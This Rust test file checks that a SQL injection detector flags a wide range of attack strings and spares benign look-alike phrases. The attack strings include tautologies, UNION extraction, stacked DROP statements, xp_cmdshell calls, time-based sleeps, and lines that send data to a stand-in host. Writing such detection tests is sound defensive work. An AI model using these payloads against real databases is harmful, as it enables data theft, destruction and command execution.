//! Attacks in every context and dialect, and what looks like them.

use super::super::tests::{found, found_at};
use super::*;

#[track_caller]
fn finds(rule: &str, texts: &[&str]) {
    for text in texts {
        assert!(
            found(&ANALYZER, text).contains(&rule),
            "{rule}: {text}: {:?}",
            found(&ANALYZER, text)
        );
    }
}

#[test]
fn conditions_behind_texts_are_found() {
    finds(
        "condition_behind_text",
        &[
            "admin'||'1",
            "1'='1",
            "1'='0'='0",
            "'-0||'1",
            "' or ''^'",
            "' or 1 or '",
            "'=''or'",
            "' or 1=1",
            "' or 'a'='a",
            "x' and sleep(5)#",
            "\") or (\"1\"=\"1",
            "' OR '1'='1' -- ",
            "a'||'1'='1",
            "' or true--",
            "' or 1 -- ",
            "x'/**/or/**/1=1",
            "' AnD 5>3",
            "' or ''='",
            "admin' or 1=1#",
            "' or not 1=2",
            "') or ('x'='x",
            "' or exists(select 1)",
            "' or name like '%a",
            "' xor 1=1",
            "' && 1=1",
            "'-sleep(5)-'",
            "' and ascii(substr(user(),1,1))>64",
            "'=0--",
            "'||utl_http.request('http://a.example/')||'",
            "1') and (2763=4004)*4004 and ('a'='a",
            "1' or isnull(1/0) /*",
        ],
    );
}

#[test]
fn conditions_behind_numbers_are_found() {
    finds(
        "condition_behind_number",
        &[
            "1 or 1=1",
            "1::int or 1=1",
            "1::text::int4 or 2=2--",
            "$$x$$ or 1=1--",
            "$a$x$y$a$ or 1=1",
            "-1 or 17-7=10",
            "1) or (1=1",
            "1 and 5=6",
            " or x=x#",
            " or x=x",
            "1 || 7>3",
            "1 or sleep(5)",
            "1/**/and/**/1=1",
            "1 and(1=1)",
            " or isNULL(1/0) /*",
            "id or 1=1",
            "1 or 'a'='a'",
            "1 and 'x' like 'x'",
            "1 or 1 is not null",
            "1 or 1 is 1",
            "1 or(1)=(1)",
            "1 or json_length('{}')<=1",
            "1 or '{\"a\":1}'::jsonb ? 'a'",
            "1 or '{\"b\":2}'::jsonb <@ '{\"a\":1,\"b\":2}'::jsonb",
            "1 or '{\"a\":1}'->>'a' = '1'",
            "1 between 0 and 2 or 1=1",
            "1 like 1 or 2 like 2",
            "1 RLIKE SLEEP(5)",
            "1 DIV SLEEP(5)",
            "1 AND ROWNUM=1",
            "1 and typeof(1)='integer'",
            "id=1 or id=2--",
            "1 and @x:=1",
        ]
        .iter()
        .copied()
        .filter(|text| *text != "id or 1=1")
        .collect::<Vec<_>>(),
    );
}

#[test]
fn unions_statements_queries_calls_and_clauses_are_found() {
    finds(
        "union_behind_value",
        &[
            "1 union select 1,2,3",
            "' UNION ALL SELECT NULL,NULL--",
            "1) union(select 1)",
            "x' union/*!50000 select*/ user,2 from a",
            "0e1union select 1",
            "-1 union distinct select password from users",
        ],
    );
    finds(
        "further_statement",
        &[
            "1; drop table users",
            "x'; exec xp_cmdshell 'dir'",
            "1);select pg_sleep(5)",
            "'; waitfor delay '0:0:5'--",
            "1;declare @a int",
            "'; shutdown--",
            "1;show tables",
            "1;commit",
            "1;prepare x from 'select 1'",
            "1;rename table a to b",
            "1;do sleep(5)",
        ],
    );
    finds(
        "whole_statement",
        &[
            "drop table users",
            "select * from users",
            "insert into a values(1)",
            "update a set b=1",
            "delete from a where b=1",
            "exec xp_cmdshell 'dir'",
            "select @@version",
        ],
    );
    finds(
        "inner_query",
        &[
            "(select 1 from dual)",
            "1+(select count(*) from a)",
            "if((select user()),1,0)",
            "(select*from(select(sleep(5)))a)",
            "1 in (SELECT a FROM b)",
            "(select/**/1,2)",
        ],
    );
    finds(
        "telling_call",
        &[
            "sleep(5)#",
            "SLEEP(5)='",
            "1-benchmark(1000,md5(1))",
            "sleep(5)",
            "1,extractvalue(1,concat(0x7e,user()))",
            "or pg_sleep(5)--",
        ],
    );
    finds(
        "clause",
        &[
            "1) as abcd where 5=5--",
            " as x where 1=1 and 1=0",
            "1 order by 10",
            "' order by 5--",
            "name' order by (case when 1=1 then name else price end)--",
            "1 into @a,@b",
            "1 group by 1",
            "' having 1=1--",
            "1 procedure analyse()",
            "' into outfile '/tmp/x",
        ],
    );
}

#[test]
fn texts_and_other_languages_are_not() {
    for text in [
        "Drop Table Tennis Club",
        "std::text or std::string = 1",
        "$$ or $$ is 5 = 5",
        "a::b or c",
        "Create User Guide",
        "create table decorations",
        "call me(maybe)",
        "copy me to clipboard",
        "shutdown",
        "grant all access to the team",
        "O'Brien",
        "rock 'n' roll",
        "it's this or that's it",
        "which union do students select",
        "select a table from the menu",
        "5 or 6 items",
        "'yes' or 'no'",
        "\"rock\" and \"roll\" music",
        "vitamin b and 12 more",
        "price gt 5 and name eq 'x'",
        "status:open AND author:\"me\"",
        "don't or do",
        "it's #1",
        "2 + 2",
        "a-b",
        "drop by at 5; bring cake",
        "update your set of tools",
        "delete from the list what you can",
        "Tom & Jerry's",
        "1 and done",
        "order by phone",
        "9 to 5 and 24/7",
        "\"a\": \"b\"",
        "{\"a\":\"b\",\"c\":1}",
        "the 'select' element",
        "5' 10\" and 6' 2\"",
        "they're and we're = us",
        "call me (maybe)",
        "SELECT committee",
        "fish || chips",
        "x && y",
        "'tis nobler or not to be",
        "1-2-3",
        "#1 or #2",
        "limit 5, please",
        "having fun",
        "sleep(er) cars",
        "time.sleep(5)",
        "L'union fait la force",
        "a or b",
        "2024-01-02 and later",
        "he said \"yes\" and left",
        "let's see -- or not",
        "a=b&c=d",
        "100% or more",
        "user.role == 'admin' && user.age >= 18",
        "a = 'x' and b > 5",
        "\"this\" and that, or \"those\"",
    ] {
        assert_eq!(found(&ANALYZER, text), [""; 0], "{text}");
    }
}

#[test]
fn statements_in_bodies_count_less() {
    assert_eq!(
        found_at(&ANALYZER, b"select * from users", PlaceKind::Body),
        ["statement_in_body"]
    );
    let document = format!(
        "To read all rows:\n\n    select * from users;\n\n{}",
        "Some more about SQL. ".repeat(30)
    );
    assert_eq!(
        found_at(&ANALYZER, document.as_bytes(), PlaceKind::Body),
        [""; 0]
    );
}

/// Neither blanks nor line ends make a document of a value.
#[test]
fn padding_hides_nothing() {
    for padding in ["\n".repeat(9), " ".repeat(600), "\t\r\n".repeat(300)] {
        for text in [
            format!("1{padding}or 17-7=10"),
            format!("1-sleep(5){padding}"),
            format!("{padding}(select a from b)"),
        ] {
            assert_ne!(
                found_at(&ANALYZER, text.as_bytes(), PlaceKind::Body),
                [""; 0],
                "{text:?}"
            );
        }
    }
}

/// Known misses: conditions on names alone, which other query languages write as well.
#[test]
fn conditions_on_names_are_missed() {
    for text in ["1 and a > b", "1 or name = other", "a or b=c"] {
        assert_eq!(found(&ANALYZER, text), [""; 0], "{text}");
    }
}

#[test]
fn words_are_in_order_and_within_the_text() {
    let mut random = 0x9e37_79b9_7f4a_7c15_u64;
    for _ in 0..5_000 {
        let text: Vec<u8> = (0..40)
            .map(|_| {
                random ^= random << 13;
                random ^= random >> 7;
                random ^= random << 17;
                b"'\"`-#/*!()[]=<>|&;,.@: 0123xeorands\\\n\xff"[(random >> 33) as usize % 38]
            })
            .collect();
        let mut tokens = Tokens::new();
        let tokens = tokens.read(&text, 0);
        let mut end = 0;
        for token in tokens.as_slice() {
            assert!(token.start >= end && token.end > token.start && token.end <= text.len());
            assert_eq!(&text[token.start..token.end], token.text);
            end = token.end;
        }
    }
}

/// What each kind of attack cannot do without, in a query and in a body.
const ATTACKS: &[&str] = &[
    "1' UNION ALL SELECT NULL,NULL--",
    "x union/**/select password from users",
    "1 UnIoN(SeLeCt 1,2)",
    "1 or 1=1",
    "x' AND (5=6",
    "1 || 7>3",
    "1 or 1 like 1",
    "' or 'a'='a",
    "\") or (\"1\"=\"1",
    "x' && ''='",
    "x' or 1 -- ",
    "a' AND email IS NULL",
    "' or name like '%a",
    "1 or a=a",
    "' or true--",
    "admin'--",
    "root\" #",
    "x')/*",
    "1; DROP TABLE users",
    "x'; exec('x')",
    "1);select 1",
    "1 and sleep(5)",
    "';waitfor delay '0:0:5'--",
    "1||pg_sleep(3)",
    "benchmark(9999999,md5(1))",
    "like('x',hex(randomblob(300000000)))",
    "extractvalue(1,concat(0x7e,version()))",
    "(select floor(rand(0)*2))",
    "procedure analyse()",
    "select x from information_schema.tables",
    "from(sqlite_master)",
    "1 and substring(version(),1,1)=5",
    "1 and length(x) like 3",
    "1=(select 1 from x)",
    "id in (select id from users)",
    "1 and (select(1))",
    "select * from users",
    "'; select @@version",
    "select count(x) from y",
    "insert into users values(1)",
    "drop table users;--",
    "delete from users where 1",
    "chr(65)||chr(66)",
    "char(65,66,67)",
    "concat(0x7e,x)",
    "select @@version",
    "@@datadir",
    "into outfile '/x'",
    "load_file(0x2f)",
    "exec xp_cmdshell 'dir'",
    "utl_http.request('x')",
    "1' order by 3--",
    "' group by 1,2#",
    "x) having 1=1",
    " order by 10",
    "(case when (1=1) then 1 else 0 end)",
    "if(1=1,1,2)",
    "/*!50000select*/ 1",
    "'||(select 1)",
];

/// What looks like them.
const LOOK_ALIKES: &[&str] = &[
    "which union do students select most",
    "The European Union selects members",
    "union select committee meeting",
    "2 or 3 items",
    "vitamin b and 12 = many",
    "candor 1=1",
    "black and 7 more",
    "'yes' or 'no'",
    "\"rock\" and \"roll\" music",
    "it's this or that's it",
    "don't or do",
    "'tis nobler or not to be",
    "\"this\" and that, or \"those\"",
    "order or a=b later",
    "black or white",
    "true or false",
    "O'Brien",
    "\"quoted\" -- an author",
    "it's #1",
    "drop by at 5; bring cake",
    "select; then call",
    "time.sleep(5)",
    "sleep 8 hours and (maybe) more",
    "wait for delay",
    "a series (1, 2)",
    "randomblob is a function",
    "extract value (1)",
    "update xml file",
    "floor (rand) notes",
    "from dubai with love",
    "data from systems",
    "schema information",
    "or user (optional)",
    "left and right (both)",
    "and count me in",
    "choose one (select below)",
    "in (selected) shops",
    "options (select any)",
    "Select all colours: red; green",
    "select one of these",
    "selected items from us",
    "Select size from menu, please",
    "insert into the slot",
    "drop table seats off today",
    "update my profile set",
    "char (65)",
    "concat(a, b)",
    "varchar(65)",
    "me@version.example",
    "@version",
    "put into output files",
    "load file (again)",
    "xp_ points",
    "the utl http module",
    "order by 5 pm today",
    "1 group by the door",
    "order by phone",
    "in case when it rains",
    "if (a) then b",
    "select /* a comment */",
    "this or /that/",
];

#[test]
fn attacks_of_every_kind_are_found_and_look_alikes_spared() {
    for place in [PlaceKind::Query, PlaceKind::Body] {
        for text in ATTACKS {
            let found = found_at(&ANALYZER, text.as_bytes(), place);
            assert_ne!(found, [""; 0], "{text:?} in {place:?}");
        }
        for text in LOOK_ALIKES {
            let found = found_at(&ANALYZER, text.as_bytes(), place);
            assert_eq!(found, [""; 0], "{text:?} in {place:?}");
        }
    }
}

#[test]
fn what_the_tables_knew_and_the_grammar_did_not_is_found() {
    for text in [
        "0' XOR(if(now()=sysdate(),sleep(5),0))XOR'Z",
        ",cast(chr(126)||version() as numeric)",
        "make_set(5679=9769,9769)",
        "1');if(7=7) select 7 else drop function a--",
        "1';call regexp_substring(repeat(left(a(char(65)),0),5),null)--",
        "backup database master to disk='//a.example/b'",
        "select current_setting('config_file');",
        "' group by a union all select a,1,1 from (select b)#",
        "id=1 group by 1 having 1=1--",
        "1 OR 1",
        "1 or true",
        "1 intersect select 1",
        "1 union table users",
        "'; merge into users using x on 1=1",
        "'; attach database '/tmp/x.php' as x;--",
        "1; pragma table_info(users)",
        "1';set @a=1--",
        "'+(select top 1 name from sysobjects)+'",
        "drop table if exists users",
    ] {
        assert_ne!(
            found_at(&ANALYZER, text.as_bytes(), PlaceKind::Query),
            [""; 0],
            "{text}"
        );
    }
    let path = b"/users/1) as a where 9703=9703;select count(*) from a.b as c--";
    assert_ne!(found_at(&ANALYZER, path, PlaceKind::Path), [""; 0]);
    for hostile in [
        "select grantee from syscat.dbauth;",
        "exec master..xp_cmdshell 'dir'",
    ] {
        let found = found_at(&ANALYZER, hostile.as_bytes(), PlaceKind::Body);
        assert!(found.contains(&"whole_statement"), "{hostile}: {found:?}");
    }
}
